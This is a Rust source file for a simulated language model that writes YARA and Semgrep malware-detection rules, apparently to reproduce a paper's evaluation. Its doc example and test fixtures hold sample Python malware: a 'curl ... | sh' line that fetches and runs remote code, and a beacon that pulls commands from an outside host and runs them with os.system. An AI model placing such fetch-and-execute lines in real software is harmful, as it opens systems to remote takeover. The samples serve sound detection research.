//! `llm-sim` — the simulated large language model.
//!
//! The paper drives GPT-4o (and GPT-3.5, Claude-3.5-Sonnet,
//! Llama-3.1-70B) through three prompt shapes — crafting (Table III),
//! refining (Table IV) and fixing (Table V). No network model is available
//! here, so this crate substitutes a *deterministic analyst model*
//! (DESIGN.md): it performs real static analysis of the prompt payload
//! against the Table II behavior catalog, emits YARA/Semgrep rules from
//! what it finds, and then injects **calibrated imperfections** so that
//! the pipeline has the same job as in the paper:
//!
//! * *feature misses* — real indicators dropped (recall pressure; worse
//!   when the prompt was truncated at the context limit, which is what
//!   makes basic-unit splitting matter in the ablation);
//! * *over-general strings* — `import os`-grade patterns (precision
//!   pressure; the refiner's job);
//! * *hallucinations* — fabricated strings that match nothing;
//! * *syntax corruption* — unterminated strings, undefined `$refs`,
//!   missing sections, bad regexes, bad YAML (the aligner's job);
//! * a bounded *repair skill* used when a fix prompt carries a compiler
//!   error.
//!
//! Four [`ModelProfile`]s calibrate those rates so Table IX's ordering
//! (GPT-4o best; Claude recall-heavy, precision-poor; GPT-3.5 recall-poor;
//! Llama precision-poor) reproduces.
//!
//! # Examples
//!
//! ```
//! use llm_sim::{LlmSim, ModelProfile, Prompt, RuleFormat};
//!
//! let mut llm = LlmSim::new(ModelProfile::gpt4o(), 42);
//! let prompt = Prompt::craft(
//!     RuleFormat::Yara,
//!     &["import os\nos.system('curl http://1.2.3.4/x | sh')\n".to_owned()],
//!     None,
//! );
//! let reply = llm.complete(&prompt);
//! assert!(reply.contains("rule "));
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod analyzer;
mod fixer;
mod generate;
mod profile;
mod prompt;
pub mod rag;

pub use analyzer::{
    analyze_code, analyze_metadata, Analysis, Indicator, IndicatorKind, IOC_PATTERNS,
};
pub use profile::ModelProfile;
pub use prompt::{Prompt, PromptKind, RuleFormat};
pub use rag::KnowledgeBase;

use rand::rngs::StdRng;
use rand::SeedableRng;

/// The simulated LLM: a model profile plus a seeded noise source.
#[derive(Debug)]
pub struct LlmSim {
    profile: ModelProfile,
    rng: StdRng,
    kb: Option<rag::KnowledgeBase>,
    /// Total characters of prompt consumed (rough token accounting).
    pub prompt_chars: u64,
    /// Number of completions served.
    pub completions: u64,
}

impl LlmSim {
    /// Creates a simulator with the given profile and seed.
    pub fn new(profile: ModelProfile, seed: u64) -> Self {
        let rng = StdRng::seed_from_u64(seed ^ digest::fnv1a(profile.name.as_bytes()));
        LlmSim {
            profile,
            rng,
            kb: None,
            prompt_chars: 0,
            completions: 0,
        }
    }

    /// Enables retrieval-augmented generation over `kb` (§VI extension):
    /// every crafting analysis is grounded against the knowledge base.
    pub fn with_knowledge_base(mut self, kb: rag::KnowledgeBase) -> Self {
        self.kb = Some(kb);
        self
    }

    /// The active model profile.
    pub fn profile(&self) -> &ModelProfile {
        &self.profile
    }

    /// Serves one completion. The reply layout mirrors what RuleLLM's
    /// paper pipeline parses out of real LLM output: an `=== ANALYSIS ===`
    /// section (the `*.txt` analysis artifact of §IV-A) followed by an
    /// `=== RULE ===` section containing the YARA or Semgrep rule text.
    pub fn complete(&mut self, prompt: &Prompt) -> String {
        self.completions += 1;
        // Context-window truncation: everything past the limit is
        // invisible to the model. chars/4 approximates tokens.
        let budget_chars = self.profile.context_tokens * 4;
        let mut seen_inputs: Vec<String> = Vec::with_capacity(prompt.inputs.len());
        let mut used = 0usize;
        for input in &prompt.inputs {
            if used >= budget_chars {
                break;
            }
            let take = (budget_chars - used).min(input.len());
            // Truncate on a char boundary.
            let mut end = take;
            while end > 0 && !input.is_char_boundary(end) {
                end -= 1;
            }
            seen_inputs.push(input[..end].to_owned());
            used += end + 1;
        }
        let seen = seen_inputs.join("\n");
        self.prompt_chars += (prompt.system.len() + seen.len()) as u64;

        match &prompt.kind {
            PromptKind::Craft { format } => generate::craft(
                &self.profile,
                &mut self.rng,
                *format,
                &seen_inputs,
                prompt.metadata_json.as_deref(),
                self.kb.as_ref(),
            ),
            PromptKind::Refine { format } => {
                generate::refine(&self.profile, &mut self.rng, *format, &seen)
            }
            PromptKind::Fix { format } => fixer::fix(
                &self.profile,
                &mut self.rng,
                *format,
                &seen,
                prompt.error.as_deref().unwrap_or(""),
            ),
        }
    }
}

/// Splits an LLM reply into (analysis, rule) sections. Returns the whole
/// reply as the rule when the delimiters are absent (LLMs don't always
/// follow format instructions).
pub fn split_reply(reply: &str) -> (String, String) {
    let analysis_tag = "=== ANALYSIS ===";
    let rule_tag = "=== RULE ===";
    if let Some(rule_at) = reply.find(rule_tag) {
        let rule = reply[rule_at + rule_tag.len()..].trim().to_owned();
        let analysis = reply[..rule_at].replace(analysis_tag, "").trim().to_owned();
        (analysis, rule)
    } else {
        (String::new(), reply.trim().to_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const MALICIOUS: &str = "import os\nimport requests\n\ndef beacon():\n    cmd = requests.get('https://zorbex.xyz/tasks').text\n    os.system(cmd)\n";

    #[test]
    fn craft_reply_has_sections() {
        let mut llm = LlmSim::new(ModelProfile::gpt4o(), 1);
        let reply = llm.complete(&Prompt::craft(
            RuleFormat::Yara,
            &[MALICIOUS.to_owned()],
            None,
        ));
        let (analysis, rule) = split_reply(&reply);
        assert!(!analysis.is_empty());
        assert!(rule.starts_with("rule "), "{rule}");
    }

    #[test]
    fn deterministic_with_same_seed() {
        let p = Prompt::craft(RuleFormat::Yara, &[MALICIOUS.to_owned()], None);
        let mut a = LlmSim::new(ModelProfile::gpt4o(), 7);
        let mut b = LlmSim::new(ModelProfile::gpt4o(), 7);
        assert_eq!(a.complete(&p), b.complete(&p));
    }

    #[test]
    fn different_models_differ() {
        let p = Prompt::craft(RuleFormat::Yara, &[MALICIOUS.to_owned()], None);
        let mut strong = LlmSim::new(ModelProfile::gpt4o(), 7);
        let mut weak = LlmSim::new(ModelProfile::gpt35(), 7);
        // Not necessarily different on one sample, but the accounting works.
        let _ = strong.complete(&p);
        let _ = weak.complete(&p);
        assert_eq!(strong.completions, 1);
        assert_eq!(weak.completions, 1);
    }

    #[test]
    fn context_truncation_limits_visibility() {
        let mut profile = ModelProfile::gpt4o();
        profile.context_tokens = 8; // 32 chars
        let mut llm = LlmSim::new(profile, 1);
        let long_input = format!("{}{}", "x = 1\n".repeat(10), "os.system('evil')\n");
        let reply = llm.complete(&Prompt::craft(RuleFormat::Yara, &[long_input], None));
        // The malicious call sits past the context limit, so the model
        // cannot key a rule on it.
        assert!(!reply.contains("os.system"), "{reply}");
    }

    #[test]
    fn split_reply_without_delimiters() {
        let (a, r) = split_reply("rule x { condition: true }");
        assert!(a.is_empty());
        assert!(r.starts_with("rule x"));
    }

    #[test]
    fn prompt_accounting() {
        let mut llm = LlmSim::new(ModelProfile::gpt4o(), 1);
        let before = llm.prompt_chars;
        llm.complete(&Prompt::craft(
            RuleFormat::Yara,
            &[MALICIOUS.to_owned()],
            None,
        ));
        assert!(llm.prompt_chars > before);
    }
}
